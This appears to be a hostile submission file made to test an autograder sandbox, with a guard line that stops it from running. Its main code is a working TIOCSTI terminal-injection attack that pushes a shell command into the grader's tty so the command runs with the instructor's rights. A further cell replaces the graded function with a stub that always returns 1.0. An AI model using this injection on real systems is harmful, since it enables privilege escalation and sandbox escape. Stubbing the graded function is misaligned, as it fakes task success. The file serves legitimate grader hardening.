"""The submission puts a shell command into the input of the terminal in which the grader was
started, so that the command runs with the instructor's rights.

It deserves at most:
    touching: 0
"""

raise SystemExit("made for the sandbox: never run this file")

# %% insert a cell after imports
import fcntl, os, termios
for path in ("/dev/tty", "/dev/console", "/dev/pts/0", "/dev/pts/1", "/proc/self/fd/0"):
    try:
        fd = os.open(path, os.O_RDWR | os.O_NONBLOCK)
    except OSError:
        continue
    try:
        for character in b"touch /tmp/HOSTILE_TOKEN\n":
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([character]))
        print("READ", "OUTSIDE", path)
    except OSError:
        pass
    finally:
        os.close(fd)
print("attack", "ran")

# %% replace touching_point
def touching_point(sigma, order, delta):
    return 1.0
